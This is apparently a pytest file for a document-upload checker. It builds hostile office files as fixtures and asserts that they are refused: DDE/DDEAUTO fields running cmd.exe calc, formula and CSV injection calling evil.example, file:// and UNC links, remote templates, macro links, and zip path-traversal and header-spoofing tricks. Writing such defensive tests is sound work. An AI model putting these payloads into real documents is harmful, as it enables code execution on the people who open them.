"""Documents that could act on the person who opens them are refused, saying what and where.

Dave attaches documents to his bid; Alice opens them. Each hostile file here is built in the test:
a workbook with a formula, a link to another workbook or to a file share, macros or an embedded
object; a Word document with a DDE field (split over runs, as attack kits write it) or a template
fetched when it opens; an OpenDocument text with a table formula or a macro link; a CSV whose cell
a spreadsheet would run; and zips that read differently from the front than from their directory.
The same kinds of file without those are taken, so the checks do not refuse honest documents.
"""

from __future__ import annotations

import io
import struct
import zipfile

import pytest
from openpyxl import Workbook

from stepchange.core.streamed_workbook import workbook_chunks
from stepchange.core.uploads import UploadRefused, check_document, check_upload
from tests.commissioning.files import docx, odt, upload, zipped

CONTENT_TYPES = b'<?xml version="1.0" encoding="UTF-8"?><Types/>'


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(UploadRefused) as refused:
        check_document(upload(name, content))
    return str(refused.value)


def taken(name: str, content: bytes) -> str:
    return check_document(upload(name, content)).kind


def workbook(build=None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "Budget"
    sheet["A1"], sheet["B1"] = "Item", "Cost"
    sheet["A2"], sheet["B2"] = "Rent", 1200
    if build:
        build(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_parts(content: bytes, extra: dict[str, bytes], *, replace: dict[str, bytes] | None = None) -> bytes:
    """The zip ``content`` rewritten with ``extra`` parts added and ``replace`` parts' bytes changed."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def word(body: str, *, rels: dict[str, bytes] | None = None) -> bytes:
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="x"><w:body>' + body + "</w:body></w:document>"
        ).encode(),
    }
    parts.update(rels or {})
    return zipped(parts)


def relationship(type_: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{type_}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def open_document(content: str, *, mimetype: bytes = b"application/vnd.oasis.opendocument.text") -> bytes:
    return zipped({"content.xml": content.encode()}, stored_first=("mimetype", mimetype))


# Honest documents are taken ---------------------------------------------------------------------------


def test_honest_workbooks_word_and_opendocument_files_are_taken() -> None:
    assert taken("budget.xlsx", workbook()) == "xlsx"
    web_link = workbook(lambda sheet: setattr(sheet["A3"], "hyperlink", "https://www.gov.uk/"))
    assert taken("links.xlsx", web_link) == "xlsx"
    # A zip written as a stream puts each part's sizes after its data, as Excel does.
    streamed = b"".join(workbook_chunks("Budget", ["Item", "Cost"], [["Rent", 1200], ["-2", -2]]))
    assert taken("streamed.xlsx", streamed) == "xlsx"
    assert taken("method.docx", docx()) == "docx"
    page_field = '<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> NUMPAGES </w:instrText></w:r></w:p>'
    assert taken("numbered.docx", word(page_field)) == "docx"
    assert (
        taken(
            "web.docx",
            word("<w:p/>", rels={"word/_rels/document.xml.rels": relationship("hyperlink", "https://x.example/")}),
        )
        == "docx"
    )
    assert taken("minutes.odt", odt()) == "odt"
    assert taken("linked.odt", open_document('<text:a xlink:href="https://www.gov.uk/">GOV.UK</text:a>')) == "odt"


def test_a_csv_of_figures_negative_numbers_and_quoted_text_is_taken() -> None:
    assert taken("budget.csv", b"Item,Cost\r\nRent,1200\r\nRefund,-2\r\nNote,'=kept as text\r\n") == "text"
    # A .txt document is not opened by a spreadsheet: bullets starting with "-" are prose.
    assert taken("notes.txt", b"- one\n- two\n=== heading ===\n") == "text"


# Workbooks ---------------------------------------------------------------------------------------------


def test_a_workbook_with_a_formula_is_refused_naming_its_sheet_and_cell() -> None:
    def formula(sheet):
        sheet["C7"] = '=HYPERLINK("http://evil.example","x")'

    message = refusal("budget.xlsx", workbook(formula))
    assert "The excel workbook budget.xlsx holds a formula: sheet “Budget”, cell C7." in message


def test_a_workbook_linking_to_another_workbook_or_a_data_source_is_refused() -> None:
    linked = with_parts(workbook(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    assert "links to other files or data sources" in refusal("linked.xlsx", linked)
    connected = with_parts(workbook(), {"xl/connections.xml": b"<connections/>"})
    assert "links to other files or data sources" in refusal("connected.xlsx", connected)


@pytest.mark.parametrize(
    "target", ["file:///C:/Windows/System32/calc.exe", "\\\\evil.example\\share\\x.xlsx", "javascript:alert(1)"]
)
def test_a_workbook_hyperlink_that_is_not_a_web_address_is_refused(target: str) -> None:
    hostile = workbook(lambda sheet: setattr(sheet["A3"], "hyperlink", target))
    assert "which is not a web or e-mail address" in refusal("links.xlsx", hostile)


@pytest.mark.parametrize(
    "part",
    [
        "xl/vbaProject.bin",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/macrosheets/sheet1.xml",
        "xl/media/payload.bin",
    ],
)
def test_a_workbook_with_macros_or_embedded_objects_is_refused(part: str) -> None:
    assert "holds macros, ActiveX controls or embedded objects" in refusal(
        "macro.xlsx", with_parts(workbook(), {part: b"\x00" * 32})
    )


def test_a_workbook_whose_content_types_say_macro_enabled_is_refused() -> None:
    content = workbook()
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        types = source.read("[Content_Types].xml").replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    assert "content marked as macros" in refusal(
        "macro.xlsx", with_parts(content, {}, replace={"[Content_Types].xml": types})
    )


def test_printer_settings_saved_by_excel_are_not_taken_for_a_program() -> None:
    settings = with_parts(workbook(), {"xl/printerSettings/printerSettings1.bin": b"\x00" * 64})
    assert taken("printed.xlsx", settings) == "xlsx"


def test_a_return_upload_refuses_a_link_to_another_workbook_too() -> None:
    linked = with_parts(workbook(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    with pytest.raises(UploadRefused, match="links to other files or data sources"):
        check_upload(upload("return.xlsx", linked))


# Word documents -----------------------------------------------------------------------------------------


def test_a_dde_field_is_refused_even_split_over_runs() -> None:
    split = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    assert "holds a DDEAUTO field, which runs a program" in refusal("letter.docx", word(split))
    simple = '<w:p><w:fldSimple w:instr="DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot;"/></w:p>'
    assert "holds a DDE field" in refusal("letter.docx", word(simple))


def test_a_field_disguised_by_padding_character_references_or_another_encoding_is_still_found() -> None:
    padded = f"<w:p><w:r><w:instrText>{' ' * 5000}DDEAUTO calc</w:instrText></w:r></w:p>"
    assert "holds a DDEAUTO field" in refusal("letter.docx", word(padded))
    referenced = '<w:p><w:fldSimple w:instr="&#68;&#x44;E calc"/></w:p>'
    assert "holds a DDE field" in refusal("letter.docx", word(referenced))
    body = (
        '<?xml version="1.0" encoding="UTF-16"?><w:document><w:p><w:fldSimple w:instr="DDE calc"/></w:p></w:document>'
    )
    utf16 = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": body.encode("utf-16")})
    assert "holds a DDE field" in refusal("letter.docx", utf16)


def test_a_part_declaring_entities_is_refused() -> None:
    entities = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x "DDEAUTO calc">]>'
        '<w:document><w:fldSimple w:instr="&x;"/></w:document>'
    )
    hostile = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": entities.encode()})
    assert "declares its own XML entities" in refusal("letter.docx", hostile)


def test_a_link_target_written_with_character_references_is_read_as_a_program_reads_it() -> None:
    rels = relationship("hyperlink", "&#102;ile:///C:/Windows/calc.exe")
    hostile = word("<w:p/>", rels={"word/_rels/document.xml.rels": rels})
    assert "“file:///C:/Windows/calc.exe”, which is not a web or e-mail address" in refusal("letter.docx", hostile)


def test_a_template_fetched_from_outside_when_the_document_opens_is_refused() -> None:
    remote = word(
        "<w:p/>", rels={"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")}
    )
    assert "loads something from outside the file when it opens" in refusal("letter.docx", remote)


def test_a_word_document_with_macros_is_refused() -> None:
    assert "holds macros" in refusal("letter.docx", docx(macros=True))


# OpenDocument -------------------------------------------------------------------------------------------


def test_an_opendocument_text_with_a_table_formula_or_a_macro_link_is_refused() -> None:
    formula = open_document('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"/>')
    assert "a table with a formula" in refusal("minutes.odt", formula)
    macro = open_document('<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">x</text:a>')
    assert "“vnd.sun.star.script:Standard.Module1.Main?language=Basic”" in refusal("minutes.odt", macro)
    events = open_document("<office:event-listeners><script:event-listener/></office:event-listeners>")
    assert "macros run by events" in refusal("minutes.odt", events)


def test_an_opendocument_spreadsheet_is_not_a_document_taken_here() -> None:
    spreadsheet = open_document("<office:spreadsheet/>", mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
    assert "is a zip file, not a PDF" in refusal("budget.ods", spreadsheet)


# CSV ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "start"),
    [
        ('"=HYPERLINK(""http://evil.example"",""x"")"', "“=”"),
        ("+1+1", "“+”"),
        ("-2+3", "“-”"),
        ("@SUM(A1)", "“@”"),
        ('"\t=1+1"', "a tab"),
        ('"\r=1+1"', "a carriage return"),
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_is_refused_naming_row_and_column(cell: str, start: str) -> None:
    content = f"Item,Cost\r\nRent,{cell}\r\n".encode()
    message = refusal("budget.csv", content)
    assert f"Row 2, column 2 of budget.csv starts with {start}, so a spreadsheet would run it as a formula" in message


# Zips that lie ------------------------------------------------------------------------------------------


def patched(content: bytes, at: int, value: bytes) -> bytes:
    return content[:at] + value + content[at + len(value) :]


def central_header(content: bytes, name: str) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start = archive.start_dir
    return content.index(b"PK\x01\x02", content.index(name.encode(), start) - 46)


def local_header(content: bytes, name: str) -> int:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.getinfo(name).header_offset


def test_a_part_listed_twice_or_in_two_cases_is_refused() -> None:
    twice = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"})
    with pytest.warns(UserWarning):
        twice = with_parts(twice, {"word/document.xml": b"<w:document>other</w:document>"})
    assert "the part “word/document.xml” is listed twice" in refusal("twice.docx", twice)
    cased = with_parts(docx(), {"Word/Document.xml": b"<w:document/>"})
    assert "is listed twice" in refusal("cased.docx", cased)


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "word\\evil.xml"])
def test_a_part_whose_name_is_a_path_out_of_the_file_is_refused(name: str) -> None:
    assert "a path outside the file" in refusal("escape.docx", with_parts(docx(), {name: b"<x/>"}))


def test_a_part_named_differently_in_its_local_header_is_refused() -> None:
    content = docx()
    at = local_header(content, "word/document.xml") + 30
    lying = patched(content, at, b"word/documenX.xml")
    assert "is named differently inside the file than in its directory" in refusal("lying.docx", lying)


def test_a_part_whose_local_sizes_disagree_with_the_directory_is_refused() -> None:
    content = docx()
    at = local_header(content, "word/document.xml") + 22  # the uncompressed size
    (size,) = struct.unpack("<I", content[at : at + 4])
    lying = patched(content, at, struct.pack("<I", size + 1))
    assert "the sizes recorded for the part “word/document.xml” disagree" in refusal("lying.docx", lying)


def test_a_part_that_inflates_past_the_size_both_headers_declare_is_refused() -> None:
    content = docx("x" * 5000)
    smaller = struct.pack("<I", 100)
    lying = patched(content, local_header(content, "word/document.xml") + 22, smaller)
    lying = patched(lying, central_header(lying, "word/document.xml") + 24, smaller)
    assert "holds more than its directory declares" in refusal("lying.docx", lying)


def test_a_part_whose_checksum_both_headers_misstate_is_refused() -> None:
    content = docx()
    wrong = struct.pack("<I", 0xDEADBEEF)
    lying = patched(content, local_header(content, "word/document.xml") + 14, wrong)
    lying = patched(lying, central_header(lying, "word/document.xml") + 16, wrong)
    assert "does not match the size or checksum its directory declares" in refusal("lying.docx", lying)


def test_bytes_hidden_between_the_parts_and_the_directory_are_refused() -> None:
    content = docx()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start = archive.start_dir
    # A whole second document, seen by a program reading from the front, hidden from the directory.
    hidden = zipped({"word/document.xml": b"<w:document>something else</w:document>"})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    lying = content[:start] + hidden + content[start:]
    end = len(lying) - 22  # the end record, which says where the directory starts
    lying = patched(lying, end + 16, struct.pack("<I", start + len(hidden)))
    assert "bytes that belong to no part" in refusal("lying.docx", lying)
